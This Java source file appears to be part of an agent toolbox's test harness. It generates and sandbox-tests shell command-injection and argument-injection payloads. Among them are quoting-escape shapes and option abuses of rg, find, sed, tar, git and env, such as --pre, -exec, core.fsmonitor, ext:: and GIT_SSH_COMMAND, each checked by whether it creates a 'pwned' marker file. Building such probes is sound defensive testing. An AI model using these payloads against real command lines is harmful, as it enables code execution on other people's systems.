package dev.agent4j.toolbox.attack;

import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Words that run a command when somebody puts them into a command line: each would make one file,
 * and is tried in a line that is put together carelessly, so that only those count which do.
 */
public final class Injections {
  /** Where a word goes into a line, as it is, in double quotes, and in single ones. */
  private static final List<String> LINES = List.of("ls %s", "ls \"%s\"", "ls '%s'");

  /** How a command is hidden in a word; %s is the command. */
  private static final List<String> SHAPES =
      List.of(
          "$(%s)",
          "`%s`",
          ";%s",
          ". ; %s ; #",
          ".\n%s\n",
          "|%s",
          ". || %s",
          "x || %s",
          "&%s&",
          ". && %s",
          "\"; %s; \"",
          "'; %s; '",
          "' && %s && '",
          "\"$(%s)\"",
          "'$(%s)'",
          "\"`%s`\"",
          "'`%s`'",
          "a\r\n%s",
          "<(%s)",
          ">(%s)",
          "${x:-$(%s)}",
          "${x:=`%s`}",
          "$((a[$(%s)]))",
          "{a,$(%s)}",
          "~$(%s)",
          "*$(%s)?",
          "[a-$(%s)]",
          "$'\\x41'$(%s)",
          "<<<$(%s)",
          "--version;%s",
          "-- ;%s",
          "-l $(%s)",
          "../../$(%s)",
          "/etc/passwd;%s",
          "a\\;$(%s)",
          "caf\u00e9;%s",
          "\ttouch x;%s",
          ";(%s)",
          ";{ %s; }",
          ";eval '%s'",
          "$(eval \"%s\")",
          ";exec %s",
          "\\\n;%s");

  /** Commands that make a file; %s is its path. */
  private static final List<String> COMMANDS =
      List.of(
          "touch %s",
          "touch${IFS}%s",
          "cp /dev/null %s",
          "printf x >%s",
          "{touch,%s}",
          "$'touch' %s",
          "t\"ou\"ch %s",
          "env touch %s");

  /** Programs that run or write by an option of theirs: a line, and a word; %s is the file. */
  private static final List<List<String>> OPTIONS =
      List.of(
          List.of("rg x %s", "--pre=./evil.sh ."),
          List.of("rg %s f", "--pre ./evil.sh x"),
          List.of("rg x %s", "--hostname-bin=./evil.sh --hyperlink-format=file://{host}{path} f"),
          List.of("find . %s", "-exec touch MARKER {} +"),
          List.of("find . %s", "-execdir touch MARKER {} +"),
          List.of("find . %s", "-fprint MARKER"),
          List.of("find . %s", "-fls MARKER"),
          List.of("find . %s", "-fprintf MARKER x"),
          List.of("find . %s", "-fprint0 MARKER"),
          List.of("find %s", "f -fprint MARKER"),
          List.of("find . -name '%s'", "*' -fprint 'MARKER"),
          List.of("sed '%s' f", "w MARKER"),
          List.of("sed '%s' f", "1e touch MARKER"),
          List.of("sed '%s' f", "s/x/touch MARKER/e"),
          List.of("sed 's/x/%s/' f", "y/w MARKER\n#"),
          List.of("sed %s f", "--expression=wMARKER"),
          List.of("awk '%s' f", "BEGIN{system(\"touch MARKER\")}"),
          List.of("awk '%s' f", "{print >\"MARKER\"}"),
          List.of("awk '/%s/' f", "x/{print | \"tee MARKER\"} /x"),
          List.of("perl -ne '%s' f", "system q(touch MARKER)"),
          List.of("perl %s f", "-etouch;open(F,\">MARKER\")"),
          List.of("sort %s f", "-oMARKER"),
          List.of("sort %s f", "--output=MARKER"),
          List.of("sort %s f", "-o MARKER"),
          List.of("tar -cf /dev/null %s f", "--checkpoint=1 --checkpoint-action=exec=./evil.sh"),
          List.of("tar -cf /dev/null %s f", "-I./evil.sh"),
          List.of("tar -cf /dev/null %s f", "--use-compress-program=./evil.sh"),
          List.of("tar -cf %s f", "MARKER"),
          List.of("git %s", "-c alias.x=!./evil.sh x"),
          List.of("git %s", "-c core.fsmonitor=./evil.sh status"),
          List.of("git %s", "-c core.sshCommand=./evil.sh ls-remote ssh://x/y"),
          List.of("git %s", "-c diff.external=./evil.sh diff"),
          List.of("git %s", "-c core.hooksPath=hooks commit -m x -a"),
          List.of("git diff %s", "--output=MARKER"),
          List.of("git log %s", "--output=MARKER"),
          List.of("git grep %s x", "-O./evil.sh"),
          List.of("git grep %s x", "--open-files-in-pager=./evil.sh"),
          List.of("git ls-remote %s .", "--upload-pack=./evil.sh"),
          List.of("git ls-remote %s", "ext::./evil.sh"),
          List.of("git archive %s", "-o MARKER HEAD"),
          List.of("git archive HEAD %s", "--output=MARKER"),
          List.of("xargs %s <f", "./evil.sh"),
          List.of("xargs %s <f", "-I{} touch MARKER"),
          List.of("env %s", "-S./evil.sh"),
          List.of("env %s", "A=b ./evil.sh"),
          List.of("nice %s", "./evil.sh"),
          List.of("timeout 5 %s", "./evil.sh"),
          List.of("ls >%s", "MARKER"),
          List.of("cat f %s", ">MARKER"),
          List.of("cat f %s", "| tee MARKER"),
          List.of("tee %s <f", "MARKER"),
          List.of("dd if=f %s", "of=MARKER"),
          List.of("cp f %s", "MARKER"),
          List.of("ln -s f %s", "MARKER"),
          List.of("mkdir %s", "MARKER"),
          List.of("bash %s", "./evil.sh"),
          List.of("bash %s", "-c ./evil.sh"),
          List.of("sh -c '%s'", "./evil.sh"),
          List.of("grep x f %s", "&& ./evil.sh"),
          List.of("test -f %s", "f && ./evil.sh"),
          List.of("cd %s && ls", ". && ./evil.sh"),
          List.of("IFS=%s; ls", "x ./evil.sh"),
          List.of("%s ls", "BASH_ENV=./evil.sh bash -c :"),
          List.of("%s true", "GIT_EXTERNAL_DIFF=./evil.sh git diff;"),
          List.of("%s true", "GIT_SSH_COMMAND=./evil.sh git ls-remote ssh://x/y;"),
          List.of(
              "%s true",
              "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./evil.sh git"
                  + " status;"));

  private final Path directory;
  private final Path marker;

  /**
   * @param directory an empty one, in which the careless lines are run
   */
  public Injections(Path directory) throws IOException, InterruptedException {
    this.directory = directory;
    marker = directory.resolve("pwned");
    layOut(directory);
    run("git init -q . && git config user.name a && git config user.email a@b && git add f");
    run("git commit -qm x && echo x >>f && mkdir hooks && cp evil.sh hooks/pre-commit");
    run("git config protocol.ext.allow always");
  }

  /** Puts into a directory what some of the words name: a program, and a file. */
  public void layOut(Path where) throws IOException {
    Files.writeString(where.resolve("f"), "x\n");
    Path evil = Files.writeString(where.resolve("evil.sh"), "#!/bin/sh\ntouch " + marker + "\n");
    if (!evil.toFile().setExecutable(true)) {
      throw new IOException("cannot make " + evil + " executable");
    }
  }

  /** Returns the file that a word would make. */
  public Path marker() {
    return marker;
  }

  /** Returns every {@code step}th word, of those that do run something. */
  public List<String> live(int step) throws IOException, InterruptedException {
    var live = new ArrayList<String>();
    int count = 0;
    for (String shape : SHAPES) {
      for (String command : COMMANDS) {
        String word = shape.replace("%s", command.replace("%s", marker.toString()));
        if (count++ % step == 0 && isLive(LINES, word)) {
          live.add(word);
        }
      }
    }
    for (List<String> option : OPTIONS) {
      String word = option.get(1).replace("MARKER", marker.toString());
      if (count++ % step == 0 && isLive(option.subList(0, 1), word)) {
        live.add(word);
      }
    }
    return live;
  }

  private boolean isLive(List<String> lines, String word) throws IOException, InterruptedException {
    for (String line : lines) {
      run(line.replace("%s", word));
      if (tookPlace()) {
        return true;
      }
    }
    return false;
  }

  /** Tells whether the file is there, and takes it away. */
  public boolean tookPlace() throws IOException {
    return Files.deleteIfExists(marker);
  }

  private void run(String line) throws IOException, InterruptedException {
    ProcessBuilder builder =
        new ProcessBuilder("bash", "-c", line)
            .directory(directory.toFile())
            .redirectErrorStream(true)
            .redirectInput(new File("/dev/null"))
            .redirectOutput(ProcessBuilder.Redirect.DISCARD);
    builder.environment().put("GIT_TERMINAL_PROMPT", "0");
    Process process = builder.start();
    if (!process.waitFor(10, TimeUnit.SECONDS)) {
      process.destroyForcibly().waitFor();
    }
  }
}
